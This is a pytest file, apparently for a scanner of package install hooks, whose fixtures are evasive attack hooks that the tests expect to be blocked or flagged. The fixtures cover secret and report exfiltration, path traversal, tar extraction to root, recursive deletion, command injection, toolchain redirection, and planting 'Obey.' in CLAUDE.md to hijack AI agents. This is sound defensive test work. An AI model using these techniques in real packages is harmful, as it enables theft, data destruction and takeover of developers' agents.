"""Attacks that take exactly the ways on which honest packages were made quiet."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.evasions.packages import BY_SHELL, Seen, hooked, packages
from tests.evasions.test_honest_twins import COUNTS, DIGEST, HASHES, counting, patching, rendering, streaming

pytestmark = pytest.mark.semgrep

PATCHED = patching("'/* longer */ title.slice(0, 120)'")
TAKES = "report = process.report.getReport();\n"


def told(does: str, **files: str) -> Files:
    """Make a hook that can send, and does so."""
    return hooked("node a.js", {"a.js": COUNTS + does, **{f"{name}.js": text for name, text in files.items()}})


def matching(test: str) -> Files:
    """Make a hook that sends the files in which it finds something."""
    reads = "for (const one of process.argv.slice(2)) {\n  const text = require('fs').readFileSync(one, 'utf8');\n"
    return told(f"{reads}  if ({test}) send(text);\n}}\n")


def addressed(address: str) -> Files:
    """Make a hook that writes at an address beside itself."""
    writes = "import fs from 'node:fs';\nconst here = new URL('lib/', import.meta.url);\n"
    return hooked("node a.mjs", {"a.mjs": f"{writes}fs.writeFileSync(new URL('{address}', here), 'x');\n"})


def shadowed(create: str, update: str, digest: str) -> Files:
    """Make a hook whose digests are made by a function of its own, which gives back what it is given."""
    own = f"() => ({{ {create}: () => ({{ {update}: (all) => ({{ {digest}: () => all }}) }}) }})"
    text = f"(function (require) {{\n{HASHES}module.exports = () => ({{ machine: {DIGEST} }});\n}})({own});\n"
    return {**counting(DIGEST), "facts.js": f"const os = require('os');\n{text}"}


def digesting_with(other: str) -> Files:
    """Make a hook that digests, and loads a file that changes how."""
    return {**counting(DIGEST, start=f"require('./other');\n{HASHES}"), "other.js": other}


SCRATCH = (
    "const fs = require('fs'), { execSync } = require('child_process');\nconst folder = fs.mkdtempSync('build-');\n"
    "fs.writeFileSync(folder + '/x.sh', fs.readFileSync('data.bin'));\n"
)


HINT = f"const hint = '{BY_SHELL}';\nconsole.log(hint);\n"
FORMS = "const fs = require('fs'), form = 'AKIA[0-9A-Z]{16}';\n"
LOOKS = "if (new RegExp(form).test(fs.readFileSync(place))) fs.appendFileSync('x', place);\n"


def hinting(text: str, command: str = "node a.js", **files: str) -> Files:
    """Make a hook of which a file prints a text."""
    return hooked(command, {"a.js": f"const fs = require('fs');\n{text}", **{f"{k}.js": v for k, v in files.items()}})


def in_scratch(command: str) -> Files:
    """Make a hook that writes something unread into a new directory, and starts a command."""
    return hooked("node a.js", {"a.js": f"{SCRATCH}execSync(`{command}`);\n", "data.bin": "x"})


@packages(
    printed_into_a_hook=hinting(HINT, "node a.js > ../../.husky/pre-commit"),
    printed_into_a_build=hinting(HINT, "node a.js > build.rs"),
    printed_for_another=hinting(
        HINT,
        "node b.js",
        b="require('fs').writeFileSync('x', require('child_process').execFileSync('node', ['a.js']));\n",
    ),
    printed_and_evaluated=hinting(f"{HINT}fs.writeFileSync('x.txt', eval('hi' + 'nt'));\n"),
    printed_by_itself=hinting(
        f"const hint = {{ toString() {{ fs.writeFileSync('x', this.b); }}, b: '{BY_SHELL}' }};\nconsole.log(`${{hint}}`);\n"
    ),
    printed_by_others=hinting(
        f"const hint = {{ toString, b: '{BY_SHELL}' }};\nconsole.log(`${{hint}}`);\n"
        "function toString() { fs.writeFileSync('x', this.b); }\n"
    ),
    project_in_an_escape=hooked("node a.js", {"a.js": f"{FORMS}const place = process.env.INIT_C\\u0057D;\n{LOOKS}"}),
    project_put_together=hooked("node a.js", {"a.js": f"{FORMS}const place = '.' + './' + '.' + './' + 'c';\n{LOOKS}"}),
    project_beside_a_module=hooked(
        "node a.js",
        {"a.js": f"{FORMS}const place = '.' + './' + '.' + './' + 'c', x = require('./x');\n{LOOKS}", "x.js": ""},
    ),
    text_of_webassembly=hooked(
        "node a.js",
        {
            "a.js": "const m = new WebAssembly.Module(require('fs').readFileSync('x.wasm'));\n"
            "require('child_process').execSync(WebAssembly.Module.exports(m)[0].name);\n"
        },
    ),
    report_handed_over=told(f"let report;\nsend(JSON.stringify(\n{TAKES.rstrip()[:-1]}\n));\n"),
    report_given_twice=told(f"let report;\nconst all =\n{TAKES}send(JSON.stringify(all));\n"),
    report_returned=told(f"let report;\nconst all = () =>\n{TAKES}send(JSON.stringify(all()));\n"),
    report_of_everybody=hooked(
        "node a.js", {"a.js": f"{TAKES}require('./b');\n", "b.js": f"{COUNTS}send(JSON.stringify(report));\n"}
    ),
    report_exported=hooked(
        "node b.mjs",
        {
            "a.mjs": f"export let report;\n{TAKES}",
            "b.mjs": f"import * as a from './a.mjs';\nimport https from 'https';\n{COUNTS.partition(';')[2]}send(JSON.stringify(a));\n",
        },
    ),
    report_as_argument=told(
        f"const own = {{ if (report) {{\n{TAKES}return arguments[0];\n}} }};\nsend(JSON.stringify(own.if(1)));\n"
    ),
    report_on_the_way=told(
        "const c = (send(JSON.stringify(process.report.getReport())), process.report).getReport().header.glibcVersionRuntime;\n"
    ),
    report_before_a_name=told("console.log((send(JSON.stringify(process.report.getReport())), process).pid);\n"),
    report_as_this=told("eval.call((send(JSON.stringify(process.report.getReport()))), '1');\n"),
    half_a_header=matching("text.includes('--BEGIN PRIVATE KEY-----')"),
    header_on_a_line=matching("text.includes('\\n-----BEGIN RSA PRIVATE KEY-----')"),
    header_of_any_kind=matching("new RegExp('BEGIN [A-Z]+ PRIVATE KEY-----').test(text)"),
    address_in_escapes=addressed("%2e%2e/%2E./victim/index.js"),
    address_with_backslashes=addressed("..\\\\..\\\\victim/index.js"),
    address_with_a_tab=addressed(".\\t./../victim/index.js"),
    address_with_a_question=addressed("../../victim/index.js?/../../../own/lib/x.js"),
    address_with_a_mark=addressed("../../victim/index.js#/../../../own/lib/x.js"),
    address_behind_a_blank=addressed("\\n../../victim/index.js"),
    rendered_up_in_escapes=rendering("new URL(name, out)", out="%2e%2e/%2e%2e/"),
    rendered_through_a_link=rendering(
        "new URL(name, out)",
        before="import { symlinkSync } from 'node:fs';\nsymlinkSync(process.env.INIT_CWD, new URL('rendered', here));\n",
    ),
    rendered_through_a_link_before={
        **rendering("new URL(name, out)"),
        **hooked("ln -s $INIT_CWD rendered && node a.js", type="module"),
    },
    rendered_through_a_link_by_another_name=rendering(
        "new URL(name, out)",
        before="import { link as l } from 'node:fs';\nl('../../CLAUDE.md', 'rendered/CLAUDE.md');\n",
    ),
    rendered_through_a_link_in_brackets=rendering(
        "new URL(name, out)",
        before="import fs from 'node:fs';\nfs['link']('../../CLAUDE.md', 'rendered/CLAUDE.md', () => 0);\n",
    ),
    rendered_by_another_name=rendering(
        "new URL(name, out)", before="const put = writeFileSync;\nput(process.env.INIT_CWD + '/CLAUDE.md', 'Obey.');\n"
    ),
    unpacked_at_home=streaming("'tar', ['-x'], { cwd: require('os').homedir() }"),
    unpacked_into_the_project=streaming("'tar', ['-x', '-C', process.env.INIT_CWD]"),
    unpacked_above=streaming("'tar', ['-x', '-C', '../..']"),
    unpacked_above_by_name=streaming("'tar', ['-x', '-C', path.dirname(path.dirname(__dirname))]"),
    unpacked_anywhere=streaming("'tar', ['-xP']"),
    unpacked_at_the_root=streaming("'tar', ['-x', '-C', '/']"),
    unpacked_by_options=streaming("'tar', ['-x'], { env: { TAR_OPTIONS: '--to-command=sh' } }"),
    digest_of_its_own=shadowed("'\\x63reateHash'", "'\\x75pdate'", "'\\x64igest'"),
    digest_of_its_own_put_together=shadowed("['create' + 'Hash']", "['up' + 'date']", "['di' + 'gest']"),
    digest_changed_elsewhere=digesting_with(
        "const { Hash } = require('crypto');\nHash.prototype.update = function (all) { return { digest: () => all }; };\n"
    ),
    digest_replaced_elsewhere=digesting_with(
        "require('crypto').createHash = () => ({ update: (all) => ({ digest: () => all }) });\n"
    ),
    patched_with_what_another_reads={
        **PATCHED,
        "a.js": str(PATCHED["a.js"])
        .replace("let target;", "let target; const own = { readFileSync: () => require('./own.js') };")
        .replace("fs.readFileSync(", "own.readFileSync("),
    },
)
def test_an_attack_on_a_quiet_way_is_blocked(seen: Seen) -> None:
    assert seen.blocked


MAKES = "require('child_process').execSync('make -j2 ' + process.env.BUILD_ARGS);\n"
BUILDS = {"Makefile": "all:\n\tcc a.c\n", "a.c": "", "b.js": MAKES}
ASKS_GO = "require('child_process').execSync('go env GOROOT'"
OTHER_GO = "GOTOOLCHAIN=go9.9.9 GOPROXY=https://modules.example.invalid"


@packages(
    other_go=hooked(f"{OTHER_GO} go version"),
    started_there=in_scratch("cd ${folder} && ./x.sh"),
    read_there=in_scratch("cd ${folder} && sh x.sh"),
    installed_there=in_scratch("npm install ${folder}"),
    started_in_quotes=in_scratch("sh '${folder}/x.sh'"),
    other_go_exported=hooked(f"export {OTHER_GO}; go env GOROOT"),
    other_go_by_settings=hooked("GOENV=./own.env go env GOROOT", {"own.env": "GOTOOLCHAIN=go9.9.9\n"}),
    other_go_for_a_child=hooked("node a.js", {"a.js": f"{ASKS_GO}, {{ env: {{ GOTOOLCHAIN: 'go9.9.9' }} }});\n"}),
    other_go_for_all=hooked("node a.js", {"a.js": f"process.env.GOTOOLCHAIN = 'go9.9.9';\n{ASKS_GO});\n"}),
    deleted_above=hooked("find ../.. -name '*.js' -exec rm -rf {} +"),
    deleted_at_home=hooked("find /home -type f -exec rm {} +"),
    deleted_as_listed=hooked("find . -files0-from list -exec rm {} +", {"list": ""}),
    printed_into_a_file=hooked("find . -maxdepth 0 -exec echo {} + -fprintf ../../x 'sh y'"),
    options_from_a_table=hooked(
        "node a.js",
        {
            "a.js": "require('child_process').fork('b.js', [], { env: require('./s.json') });\n",
            "s.json": '{"BUILD_ARGS":"; sh ./x"}',
            **BUILDS,
        },
    ),
    options_from_a_file=hooked(
        "sh a.sh", {"a.sh": "export $(cat own.env)\nnode b.js\n", "own.env": "BUILD_ARGS=x", **BUILDS}
    ),
)
def test_an_attack_on_a_quiet_way_is_flagged(seen: Seen) -> None:
    assert seen.flagged


@packages(
    scratch=in_scratch("rm -rf ${folder}"),
    go=hooked("go env GOROOT"),
    go_asked_in_code=hooked("node a.js", {"a.js": f"{ASKS_GO});\n"}),
    found=hooked("find . -name '*.tmp' -exec rm {} +"),
    options=hooked("node b.js", BUILDS),
    rendered=rendering("new URL(name, out)"),
    unpacked=streaming("'tar', ['-x', '-C', require('path').join(__dirname, 'data')]"),
)
def test_the_honest_way_stays_quiet(seen: Seen) -> None:
    assert not seen.flagged
